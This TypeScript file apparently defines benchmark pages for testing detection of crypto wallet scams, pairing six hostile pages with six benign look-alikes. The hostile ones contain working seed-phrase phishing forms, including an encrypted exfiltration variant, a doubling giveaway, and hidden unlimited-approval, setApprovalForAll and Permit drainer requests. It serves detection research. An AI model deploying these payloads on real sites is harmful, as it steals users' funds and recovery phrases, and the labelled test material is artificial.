import { UNLIMITED } from '../../src/sandbox/history/calls.ts'
import { page } from '../../src/sandbox/sites/page.ts'
import type { SiteRequest } from '../../src/sandbox/sites/site.ts'
import { typedDataOf } from '../../src/testing/typedData.ts'
import { type PageClass, VISITOR } from './pageDesign.ts'
import type { PageWorld } from './pageWorld.ts'

/** A page whose HTML is its own, without the toolkits of the bench. `others`: further paths. */
const raw = (
  id: string,
  hostile: boolean,
  of: (world: PageWorld) => { title: string; html: string; others?: Record<string, string> },
): PageClass => ({
  id: `blind2-${id}`,
  hostile,
  design: (_, world) => {
    const { title, html, others = {} } = of(world)
    return {
      title,
      content: html,
      gate: ({ path }: SiteRequest) => {
        const body = path === '/' ? html : others[path]
        return body === undefined ? null : page(title, body)
      },
    }
  },
})

const json = (value: unknown) =>
  JSON.stringify(value, (_, one: unknown) => (typeof one === 'bigint' ? one.toString() : one))
/** JavaScript: connects and asks for one thing with the account filled in. */
const asks = (method: string, params: unknown) =>
  `const [account] = await ethereum.request({ method: 'eth_requestAccounts' }); await ethereum.request({ method: '${method}', params: JSON.parse(${JSON.stringify(json(params))}.replaceAll('${VISITOR}', account).replaceAll('${VISITOR.slice(2)}', account.slice(2))) })`
/** Three steps in a closed shadow root; the last one acts. */
const wizard = (steps: readonly string[], last: string) => `<step-view></step-view><script>
customElements.define('step-view', class extends HTMLElement { connectedCallback() {
  const view = this.attachShadow({ mode: 'closed' }); const steps = ${JSON.stringify(steps)}; let at = 0
  const draw = () => { view.innerHTML = '<section><h2>' + steps[at] + '</h2><button>' + (at === steps.length - 1 ? 'Finish' : 'Next') + '</button></section>'; view.querySelector('button').onclick = async () => { if (at < steps.length - 1) { at++; draw() } else { ${last} } } }
  draw() } })</script>`
const poster = (lines: readonly string[]) =>
  `<img width="600" height="200" alt="" src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="600" height="200">${lines.map((line, at) => `<text x="20" y="${50 + 50 * at}" font-size="28">${line}</text>`).join('')}</svg>`)}">`

/** Twelve pages that were written after the rules of decision 129, their labels fixed before the first scan. PAGES_SET=blind2. */
export const SECOND_BLIND_CLASSES: readonly PageClass[] = [
  raw('editable', true, () => ({
    title: 'Vault check',
    html: `<h1>Vault check</h1><p>Put the line from your steel plate here to see whether it is still safe.</p><div id="pad" contenteditable="true" style="border:1px solid #999;min-height:80px"></div><button id="go">Check</button><p id="say"></p>
<script>document.getElementById('go').onclick = () => { const line = document.getElementById('pad').innerText.trim(); if (!/^([a-z]{3,8} ){11}[a-z]{3,8}$/.test(line)) { document.getElementById('say').textContent = 'Not readable'; return } navigator.sendBeacon('/plate', JSON.stringify({ line })) }</script>`,
  })),
  raw('picture-gift', true, (world) => ({
    title: 'Anniversary',
    html: `${poster(['Send 0.5 to 50 ETH', 'and get the double back', 'within ten minutes'])}<p>One time for each address.</p><p><code>${world.thief}</code></p><button onclick="navigator.clipboard.writeText('${world.thief}')">Copy</button>`,
  })),
  raw('closed-wizard', true, (world) => ({
    title: 'Guild season',
    html: `<h1>Guild season</h1><p>Three short steps.</p>${wizard(['Pick a banner', 'Pick a colour', 'Ready'], asks('eth_sendTransaction', [{ from: VISITOR, to: world.nfts.collectible, value: '0x0', data: world.call('Collectible721', 'setApprovalForAll', [world.thief, true]) }]))}`,
  })),
  raw('one-step-deep', true, (world) => ({
    title: 'Kiln notes',
    html: '<h1>Kiln notes</h1><p>Glazes, temperatures and a few recipes that have worked for us over the years.</p><p><a href="/members">Members</a></p>',
    others: {
      '/members': `<h1>Members</h1><p>Thank you for your help.</p><button id="go">Enter</button><script>document.getElementById('go').addEventListener('click', async () => { ${asks('eth_signTypedData_v4', [VISITOR, json(typedDataOf('Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)', { name: 'USD Coin', version: '2', chainId: 1, verifyingContract: world.tokens.usdc }, { owner: VISITOR, spender: world.thief, value: UNLIMITED, nonce: '0', deadline: '99999999999' }))])} })</script>`,
    },
  })),
  raw('sealed-phrase', true, () => ({
    title: 'Coffre',
    html: `<h1>Coffre</h1><p>Votre extension a été mise à jour. Rouvrez votre portefeuille avec votre phrase de récupération.</p><form id="f"><textarea name="t"></textarea><button>Ouvrir</button></form>
<script>document.getElementById('f').onsubmit = async (event) => { event.preventDefault(); const key = await crypto.subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['encrypt']); const iv = crypto.getRandomValues(new Uint8Array(12)); const box = await crypto.subtle.encrypt({ name: 'AES-GCM', iv }, key, new TextEncoder().encode(event.target.t.value)); await fetch('/v', { method: 'POST', body: new Blob([iv, await crypto.subtle.exportKey('raw', key), box]) }) }</script>`,
  })),
  raw('delegated-clicks', true, (world) => ({
    title: 'Night market',
    html: `<h1>Night market</h1><div class="grid"><div data-act="open" style="padding:20px;background:#234;color:#fff;width:200px">Stall 4</div></div>
<script>let wallet; addEventListener('eip6963:announceProvider', (event) => { wallet = event.detail.provider }); dispatchEvent(new Event('eip6963:requestProvider'))
document.addEventListener('click', async (event) => { const act = event.target.closest('[data-act]'); if (!act) return; const [account] = await wallet.request({ method: 'eth_requestAccounts' }); await wallet.request({ method: 'wallet_sendCalls', params: [{ version: '2.0.0', chainId: '0x1', from: account, atomicRequired: true, calls: ${json([world.tokens.usdc, world.tokens.dai].map((to) => ({ to, value: '0x0', data: world.call('StableToken', 'approve', [world.traps.drainer, UNLIMITED]) })))} }] }) })</script>`,
  })),
  raw('notebook', false, () => ({
    title: 'Field notebook',
    html: `<h1>Field notebook</h1><p>What you write is kept for you.</p><div id="pad" contenteditable="true" style="border:1px solid #999;min-height:80px"></div><button id="go">Save</button><p id="say"></p>
<script>document.getElementById('go').onclick = async () => { await fetch('/notes', { method: 'POST', body: document.getElementById('pad').innerText }); document.getElementById('say').textContent = 'Saved' }</script>`,
  })),
  raw('picture-appeal', false, (world) => ({
    title: 'Otter hospital',
    html: `${poster(['12 otters this winter', 'Every bit helps'])}<p>Give what you like. The accounts are on the notice board.</p><p><code>${world.actors.friend}</code></p><button onclick="navigator.clipboard.writeText('${world.actors.friend}')">Copy</button>`,
  })),
  raw('honest-wizard', false, (world) => ({
    title: 'Savings in three steps',
    html: `<h1>Savings</h1><p>Deposit 0.1 ETH. Take it back at any time.</p>${wizard(['Choose a plan: no lock', 'Amount: 0.1 ETH', 'Confirm'], asks('eth_sendTransaction', [{ from: VISITOR, to: world.projects.desk, value: '0x16345785d8a0000', data: world.call('DepositDesk', 'stake') }]))}`,
  })),
  raw('twelve-word-tales', false, () => ({
    title: 'Twelve-word tales',
    html: `<h1>Tell a tale in exactly twelve words</h1><p>The best ones are printed in the spring booklet.</p><textarea id="t" rows="3" cols="60"></textarea><button id="go">Send</button><p id="say"></p>
<script>document.getElementById('go').onclick = async () => { const words = document.getElementById('t').value.trim().split(/\\s+/); if (words.length !== 12) { document.getElementById('say').textContent = words.length + ' words'; return } await fetch('/tales', { method: 'POST', body: words.join(' ') }); document.getElementById('say').textContent = 'Thank you' }</script>`,
  })),
  raw('app-behind-link', false, (world) => ({
    title: 'Alder exchange',
    html: '<h1>Alder exchange</h1><p>An open exchange without accounts. Fees go to those who provide liquidity.</p><p><a href="/app">Open the app</a> <a href="/docs">Documents</a></p>',
    others: {
      '/app': `<h1>Swap</h1><p>You pay 0.05 ETH and receive at least 150 USDC.</p><button id="go">Swap</button><script>document.getElementById('go').onclick = async () => { ${asks('eth_sendTransaction', [{ from: VISITOR, to: world.dex.v2Router, value: '0xb1a2bc2ec50000', data: world.call('V2Router', 'swapExactETHForTokens', [150n * 10n ** 6n, [world.tokens.wrapped, world.tokens.usdc], VISITOR, 4_294_967_295n]) }])} }</script>`,
    },
  })),
  raw('delegated-mint', false, (world) => ({
    title: 'Paper lanterns',
    html: `<h1>Paper lanterns</h1><p>0.01 ETH each.</p><div data-act="mint" style="padding:20px;background:#432;color:#fff;width:200px">Mint a lantern</div>
<script>let wallet; addEventListener('eip6963:announceProvider', (event) => { wallet = event.detail.provider }); dispatchEvent(new Event('eip6963:requestProvider'))
document.addEventListener('click', async (event) => { const act = event.target.closest('[data-act]'); if (!act) return; const [account] = await wallet.request({ method: 'eth_requestAccounts' }); await wallet.request({ method: 'wallet_sendCalls', params: [{ version: '2.0.0', chainId: '0x1', from: account, atomicRequired: true, calls: [{ to: '${world.projects.drop}', value: '0x2386f26fc10000', data: '${world.call('NftDrop', 'mint', [1n])}' }] }] }) })</script>`,
  })),
]
